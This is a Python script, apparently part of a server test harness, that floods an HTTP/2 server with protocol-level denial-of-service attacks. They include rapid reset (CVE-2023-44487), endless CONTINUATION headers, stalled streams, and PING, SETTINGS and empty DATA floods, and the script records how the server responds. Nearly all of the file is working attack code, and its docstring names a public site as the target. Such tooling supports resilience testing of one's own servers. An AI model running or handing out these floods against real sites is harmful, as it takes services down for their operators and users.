"""Floods of HTTP/2's own kind against a public site, in clear and by prior knowledge (RFC 9113 section 3.3), for crowd.t.

  h2flood.py ADDRESS PORT HOST SOURCE WORKER KIND   one connection sends without end; one line: what was sent, what came of it, and how it ended
      reset     a request and its reset, over and over (CVE-2023-44487); the server's process WORKER stands still until they lie there for it, so that
                it doesn't matter who is faster
      headers   a header that never ends: CONTINUATION after CONTINUATION (CVE-2024-24549 and its kin)
      streams   three hundred requests at once whose bodies never come
      ping, settings   questions that the server has to answer, whose answers nobody reads (CVE-2019-9512, -9515)
      empty     DATA frames of nothing (CVE-2019-9518)
"""
import os, select, signal, socket, sys
sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
from frames2 import CONT, DATA, EH, ES, GOAWAY, HEADERS, MAGIC, PING, RST, SETTINGS, Peer, block, frame

MOST = 16 << 20


def request(host, method="GET"):
    return block((":method", method), (":scheme", "http"), (":path", "/"), (":authority", host), ("user-agent", "Mozilla/5.0"), ("accept", "text/html"))


def parts(kind, host):
    """What is sent, piece by piece."""
    if kind == "reset":
        for n in range(1, 2 * 800, 2):
            yield frame(HEADERS, ES | EH, n, request(host)) + frame(RST, 0, n, b"\0\0\0\x08")
    elif kind == "headers":
        yield frame(HEADERS, ES, 1, request(host))
        for n in range(1 << 12):
            yield frame(CONT, 0, 1, block(("x-%d" % n, "a" * 4000)))
    elif kind == "streams":
        for n in range(1, 2 * 300, 2):
            yield frame(HEADERS, EH, n, request(host, "POST"))
    elif kind == "empty":
        yield frame(HEADERS, EH, 1, request(host, "POST"))
        while True:
            yield frame(DATA, 0, 1) * 100
    else:
        while True:
            yield (frame(PING, 0, 0, b"01234567") if kind == "ping" else frame(SETTINGS, 0, 0)) * 100


def flood(s, kind, host):
    """How many pieces and bytes went out until the other side ended it or would take no more."""
    sent = n = 0
    for p in parts(kind, host):
        s.settimeout(5)
        try:
            s.sendall(p)
        except OSError as e:
            return n, sent, "stalled" if isinstance(e, TimeoutError) else "ended"
        n, sent = n + 1, sent + len(p)
        if sent > MOST or (kind not in ("ping", "settings") and select.select([s], [], [], 0)[0] and ended(s)):
            break
    return n, sent, "sent"


def ended(s):
    try:
        return s.recv(1, socket.MSG_PEEK) == b""
    except OSError:
        return True


def rest(s):
    """What the other side said: how many answers, resets by code, and why it ended."""
    peer, answers, resets, why = Peer(s), 0, {}, "open"
    s.settimeout(20)
    try:
        while True:
            f = peer.next()
            if f is None:
                return answers, resets, why if why != "open" else "closed"
            kind, _, _, p = f
            answers += kind == HEADERS
            if kind == RST:
                resets[p[3]] = resets.get(p[3], 0) + 1
            if kind == GOAWAY:
                why = "goaway %d" % p[7]
    except TimeoutError:
        return answers, resets, why


def main():
    address, port, host, source, worker, kind = sys.argv[1:]
    s = socket.create_connection((address, int(port)), 5, (source, 0))
    s.setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, 1 << 20)
    if kind == "reset":
        os.kill(int(worker), signal.SIGSTOP)
    s.sendall(MAGIC + frame(SETTINGS, 0, 0))
    n, sent, how = flood(s, kind, host)
    os.kill(int(worker), signal.SIGCONT)
    answers, resets, why = rest(s)
    print(kind, "pieces", n, "bytes", sent, how, "answers", answers, "resets", *("%d:%d" % x for x in sorted(resets.items())), "why", why)


main()
